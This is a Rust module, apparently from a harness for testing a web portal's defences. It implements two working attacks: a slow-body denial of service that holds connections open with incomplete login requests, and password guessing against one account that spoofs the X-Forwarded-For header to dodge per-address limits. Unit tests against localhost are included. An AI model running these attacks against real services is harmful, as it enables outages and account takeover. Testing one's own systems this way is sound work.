//! Attacks on a portal over HTTP (requests that never end, and guesses of an account's password), and a minimal HTTP
//! client for the honest user.

use std::io::{self, ErrorKind, Read as _, Write as _};
use std::net::{IpAddr, Ipv6Addr, SocketAddr, TcpStream};
use std::time::Duration;

use rustix::io::Errno;
use rustix::net::{AddressFamily, SocketFlags, SocketType, bind, connect, socket_with};

use super::Attack;

/// Timeout of waiting for an answer.
const TIMEOUT: Duration = Duration::from_secs(10);

/// An answer of a portal.
pub struct Answer {
    /// The status.
    pub status: u16,
    /// The cookies that the answer sets, as `NAME=VALUE`.
    pub cookies: Vec<String>,
    /// The body.
    pub body: String,
}

/// Sends a request to a portal, and waits for the complete answer.
///
/// # Errors
/// Returns an error if there is no answer, or if it is not HTTP.
pub fn request(
    portal: SocketAddr,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> io::Result<Answer> {
    let mut stream = TcpStream::connect_timeout(&portal, TIMEOUT)?;
    stream.set_read_timeout(Some(TIMEOUT))?;
    stream.set_write_timeout(Some(TIMEOUT))?;
    let mut request =
        format!("{method} {path} HTTP/1.1\r\nhost: {portal}\r\nconnection: close\r\n");
    for (name, value) in headers {
        request += &format!("{name}: {value}\r\n");
    }
    if !body.is_empty() {
        let length = body.len();
        request += &format!("content-type: application/json\r\ncontent-length: {length}\r\n");
    }
    stream.write_all((request + "\r\n" + body).as_bytes())?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer)?;
    read(&String::from_utf8_lossy(&answer)).ok_or_else(|| ErrorKind::InvalidData.into())
}

fn read(answer: &str) -> Option<Answer> {
    let (head, body) = answer.split_once("\r\n\r\n")?;
    let mut lines = head.lines();
    let status = lines.next()?.split(' ').nth(1)?.parse().ok()?;
    let headers = lines.filter_map(|line| line.split_once(": "));
    let set = headers.filter(|(name, _)| name.eq_ignore_ascii_case("set-cookie"));
    let cookies = set.filter_map(|(_, value)| Some(value.split(';').next()?.to_owned()));
    Some(Answer {
        status,
        cookies: cookies.collect(),
        body: body.to_owned(),
    })
}

/// The JSON body of a log-in request.
#[must_use]
pub fn log_in(name: &str, password: &str) -> String {
    format!("{{\"name\":\"{name}\",\"password\":\"{password}\"}}")
}

/// Holds a configured number of connections. On each connection, a log-in request has begun, but its body is never
/// completed. A connection that the portal closes is replaced by a new one.
pub struct SlowBodies {
    portal: SocketAddr,
    from: Vec<IpAddr>,
    slots: Vec<Slot>,
}

enum Slot {
    Free,
    /// The connection is being established.
    Open(TcpStream),
    Requested(TcpStream),
}

impl SlowBodies {
    /// Creates the attack. Its strikes open `count` connections from these addresses of this machine.
    #[must_use]
    pub fn new(portal: SocketAddr, from: Vec<IpAddr>, count: usize) -> SlowBodies {
        SlowBodies {
            portal,
            from,
            slots: (0..count).map(|_| Slot::Free).collect(),
        }
    }

    /// Number of connections that have sent a request and that the portal currently keeps open.
    #[must_use]
    pub fn held(&self) -> usize {
        let is_held = |slot: &&Slot| match slot {
            Slot::Requested(stream) => is_open(stream),
            _ => false,
        };
        self.slots.iter().filter(is_held).count()
    }

    fn open(&self, n: usize) -> io::Result<TcpStream> {
        let family = match self.portal {
            SocketAddr::V4(_) => AddressFamily::INET,
            SocketAddr::V6(_) => AddressFamily::INET6,
        };
        let flags = SocketFlags::NONBLOCK | SocketFlags::CLOEXEC;
        let stream = socket_with(family, SocketType::STREAM, flags, None)?;
        let from = self.from[n % self.from.len()];
        bind(&stream, &SocketAddr::new(from, 0))?;
        match connect(&stream, &self.portal) {
            Ok(()) | Err(Errno::INPROGRESS) => Ok(stream.into()),
            Err(why) => Err(why.into()),
        }
    }
}

impl Attack for SlowBodies {
    fn strike(&mut self, n: u64) -> io::Result<()> {
        let at = usize::try_from(n).unwrap_or(0) % self.slots.len();
        let (next, done) = match std::mem::replace(&mut self.slots[at], Slot::Free) {
            Slot::Free => (Slot::Open(self.open(at)?), Ok(())),
            Slot::Open(mut stream) => match stream.write_all(BEGUN) {
                Ok(()) => (Slot::Requested(stream), Ok(())),
                Err(why) if is_waiting(&why) => (Slot::Open(stream), Err(why)),
                Err(why) => (Slot::Free, Err(why)),
            },
            Slot::Requested(stream) => match is_open(&stream) {
                true => (Slot::Requested(stream), Err(ErrorKind::WouldBlock.into())),
                false => (Slot::Free, Err(ErrorKind::ConnectionReset.into())),
            },
        };
        self.slots[at] = next;
        done
    }
}

/// A log-in request with only the first byte of its body.
const BEGUN: &[u8] =
    b"POST /api/login HTTP/1.1\r\nhost: portal\r\ncontent-type: application/json\r\n\
                       content-length: 100\r\n\r\n{";

fn is_waiting(why: &io::Error) -> bool {
    matches!(why.kind(), ErrorKind::WouldBlock | ErrorKind::NotConnected)
}

/// Whether the portal has neither answered on the connection nor closed it.
fn is_open(mut stream: &TcpStream) -> bool {
    matches!(stream.read(&mut [0; 512]), Err(why) if is_waiting(&why))
}

/// Sends wrong passwords for one account, each from a different address. The addresses are in one /64 network or in
/// several. They are passed in a proxy's header, because a machine rarely has enough addresses.
pub struct Guessing {
    portal: SocketAddr,
    name: String,
    networks: u16,
    compared: u64,
}

impl Guessing {
    /// Targets this account, from `networks` networks.
    #[must_use]
    pub fn new(portal: SocketAddr, name: &str, networks: u16) -> Guessing {
        Guessing {
            portal,
            name: name.to_owned(),
            networks,
            compared: 0,
        }
    }

    /// Number of guesses that the portal compared with the account's password.
    #[must_use]
    pub fn compared(&self) -> u64 {
        self.compared
    }
}

impl Attack for Guessing {
    fn strike(&mut self, n: u64) -> io::Result<()> {
        // The address has the documentation prefix (RFC 3849).
        let network = u16::try_from(n % u64::from(self.networks)).unwrap_or(0);
        let address = u16::try_from(n % 0xffff).unwrap_or(0);
        let from = Ipv6Addr::new(0x2001, 0xdb8, 0, network, 0, 0, 0, address).to_string();
        let headers = [("x-forwarded-for", from.as_str())];
        let guess = log_in(&self.name, &format!("wrong password {n}"));
        let answer = request(self.portal, "POST", "/api/login", &headers, &guess)?;
        self.compared += u64::from(answer.status == 401);
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_answer_is_read() {
        let text =
            "HTTP/1.1 200 OK\r\nSet-Cookie: a=1; Path=/\r\nx: y\r\nset-cookie: b=2\r\n\r\n{}";
        let answer = read(text).unwrap();
        assert_eq!(answer.body, "{}");
        assert_eq!(
            (answer.status, answer.cookies),
            (200, vec!["a=1".to_owned(), "b=2".to_owned()])
        );
        assert!(read("nonsense").is_none());
        assert!(read("HTTP/1.1 no\r\n\r\n").is_none());
    }

    #[test]
    fn slow_bodies_last_until_the_server_closes_them() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let portal = listener.local_addr().unwrap();
        let mut slow = SlowBodies::new(portal, vec![IpAddr::from([127, 0, 0, 1])], 3);
        let mut taken = Vec::new();
        // Each slot first opens a connection, and sends its request once the connection is established.
        for n in 0..100_000 {
            let _ = slow.strike(n);
            if n < 3 {
                taken.push(listener.accept().unwrap().0);
            }
            if slow.held() == 3 {
                break;
            }
        }
        assert_eq!(slow.held(), 3);
        let mut request = vec![0; BEGUN.len()];
        taken[0].read_exact(&mut request).unwrap();
        assert_eq!(request, BEGUN);
        drop(taken.pop());
        while slow.held() == 3 {
            std::thread::yield_now();
        }
        assert_eq!(slow.held(), 2);
    }
}
